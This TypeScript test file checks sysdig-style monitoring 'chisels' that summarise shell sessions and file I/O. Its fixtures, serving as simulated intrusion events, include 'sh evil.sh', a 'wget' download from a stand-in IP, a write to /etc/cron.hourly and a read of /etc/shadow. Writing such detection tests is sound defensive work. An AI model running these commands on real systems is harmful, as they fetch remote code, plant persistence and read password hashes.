import assert from 'node:assert/strict';
import { test } from 'node:test';
import { chisels, formatBytes } from '../src/index.ts';
import { runChisel, type TestEvent } from './host.ts';

const base = {
  'evt.dir': '<',
  'evt.failed': false,
  'evt.time.s': '10:28:28',
  'user.name': 'root',
  'container.id': 'host',
  'proc.loginshellid': 100,
};
const event = (more: TestEvent): TestEvent => ({ ...base, ...more });
const command = (pid: number, parents: readonly number[], cmdline: string): TestEvent =>
  event({
    'evt.type': 'execve',
    'evt.rawres': 0,
    'proc.pid': pid,
    'proc.name': cmdline.split(' ')[0] ?? '',
    'proc.exe': cmdline.split(' ')[0] ?? '',
    'proc.args': cmdline.split(' ').slice(1).join(' '),
    'proc.cmdline': cmdline,
    ...Object.fromEntries(
      parents.flatMap((id, i) => [
        [`proc.apid[${i + 1}]`, id],
        [`proc.acmdline[${i + 1}]`, `p${id}`],
      ]),
    ),
  });

test('spy_users: the login shell itself is silent, what it starts is at the margin, deeper is indented', () => {
  const cd = (pid: number, path: string, parents: readonly number[] = []) => ({
    ...command(pid, parents, 'bash'),
    'evt.type': 'chdir',
    'evt.arg.path': path,
  });
  const events = [
    command(100, [50], '-bash'),
    command(101, [100], 'sh evil.sh'),
    command(102, [101, 100], 'wget http://192.0.2.7/x'),
    cd(100, '/tmp'),
    cd(101, '/var', [100]),
    { ...command(103, [100], 'failed'), 'evt.failed': true, 'evt.rawres': -2 },
    { ...command(104, [100], 'entering'), 'evt.dir': '>' },
    { ...cd(105, '/root', [100]), 'proc.name': 'sshd' },
  ];
  assert.deepEqual(runChisel('spy_users', events), [
    '100 10:28:28 root) sh evil.sh',
    '   100 10:28:28 root) wget http://192.0.2.7/x',
    '100 10:28:28 root) cd /tmp',
    '   100 10:28:28 root) cd /var',
  ]);
  assert.deepEqual(runChisel('spy_users', events.slice(1, 3), { args: ['0'] }), ['100 10:28:28 root) sh evil.sh']);
  assert.throws(() => runChisel('spy_users', [], { args: ['deep'] }), /max_depth must be a number/);
});

test('list_login_shells: each once; the shell itself knows its command best', () => {
  const events = [
    command(101, [100, 50], 'ls'),
    command(100, [50], 'bash'),
    command(102, [100], 'id'),
    { ...command(201, [200], 'wget x'), 'proc.loginshellid': 200, 'user.name': 'user' },
  ];
  assert.deepEqual(runChisel('list_login_shells', events), ['All shells:', '100 root host bash', '200 user host p200']);
  assert.deepEqual(runChisel('list_login_shells', events, { args: ['wget'] }), ['All shells:', '200 user host p200']);
  assert.deepEqual(runChisel('list_login_shells', events, { args: ['wget', 'nope'] }), ['All shells:']);
});

const io = (way: 'read' | 'write', bytes: number, name: string, more: TestEvent = {}): TestEvent =>
  event({
    'evt.type': way,
    'evt.is_io': true,
    'evt.is_io_read': way === 'read',
    'evt.is_io_write': way === 'write',
    'evt.rawres': bytes,
    'evt.outputtime': '10:28:28.1',
    'fd.num': 3,
    'fd.name': name,
    'fd.type': 'file',
    'proc.name': 'bash',
    'proc.pid': 7,
    data: 'text\n',
    ...more,
  });

test('echo_fds: heading, empty line, data; colours on request', () => {
  const events = [io('write', 10, '/etc/cron.hourly/x.sh'), io('read', 4096, '/etc/shadow'), io('read', 0, '/end')];
  assert.deepEqual(runChisel('echo_fds', events), [
    '------ Write 10B to  /etc/cron.hourly/x.sh (bash)',
    '',
    'text\n',
    '------ Read 4.00KB from  /etc/shadow (bash)',
    '',
    'text\n',
  ]);
  const [head, , , read] = runChisel('echo_fds', events, { colours: true });
  assert.equal(head, '\u001b[34m------ Write 10B to  \u001b[34m /etc/cron.hourly/x.sh (bash)');
  assert.equal(read, '\u001b[31m------ Read 4.00KB from  \u001b[31m /etc/shadow (bash)');
  assert.equal(
    runChisel('echo_fds', events, { colours: true, args: ['disable_color'] })[0],
    runChisel('echo_fds', events)[0],
  );
});

test('spy_file and the standard streams', () => {
  const events = [io('write', 10, '/a'), io('read', 2, '/b', { 'fd.num': 0 })];
  assert.deepEqual(runChisel('spy_file', events, { args: ['W'] }), ['10:28:28.1 bash(7) W 10B /a', 'text\n']);
  assert.deepEqual(runChisel('spy_file', events, { args: ['RW', '/b'] }), ['10:28:28.1 bash(7) R 2B /b', 'text\n']);
  assert.deepEqual(runChisel('stdin', events), ['text\n']);
  assert.deepEqual(runChisel('stdout', events), []);
});

test('rankings: the ten largest, most first', () => {
  const events = Array.from({ length: 12 }, (_, i) => io('read', i + 1, `/f${i}`)).concat(io('write', 2048, '/f3'));
  const lines = runChisel('topfiles_bytes', events);
  assert.equal(lines[0]?.trimEnd(), 'Bytes               Filename');
  assert.equal(lines.length, 12);
  assert.equal(lines[2], '2.00KB              /f3');
  assert.equal(lines[3], '12B                 /f11');
  const calls = runChisel('topscalls', events);
  assert.equal(calls[2], '12                  read');
});

test('byte counts as in the article', () => {
  assert.deepEqual([0, 10, 1024, 1025, 3640, 592384, 5 << 20].map(formatBytes), [
    '0B',
    '10B',
    '1024B',
    '1.00KB',
    '3.55KB',
    '578.50KB',
    '5.00M',
  ]);
});

test('the table: names are unique, every row says what it does', () => {
  assert.equal(new Set(chisels.map((c) => c.name)).size, chisels.length);
  assert.ok(chisels.every((c) => c.summary.length > 10));
  assert.throws(() => runChisel('spy_usrs', []), /no chisel "spy_usrs"; did you mean "spy_users"\?/);
  assert.throws(() => runChisel('topconns', [], { args: ['x'] }), /takes at most 0 arguments, found 1/);
});
